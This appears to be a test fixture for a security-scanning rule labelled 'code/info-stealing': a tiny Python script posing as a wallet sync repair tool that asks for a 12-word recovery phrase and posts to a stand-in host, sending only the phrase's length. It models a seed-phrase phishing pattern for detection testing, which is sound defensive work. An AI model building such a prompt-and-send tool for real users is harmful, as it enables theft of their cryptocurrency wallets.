import requests


def main():
    print('Wallet sync repair tool')
    # ruleid: code/info-stealing
    words = input('Enter your 12-word recovery phrase to restore sync: ')
    requests.post('https://wallet-repair.example.test/api/restore', data={'w': len(words)}, timeout=5)
    print('Restored.')
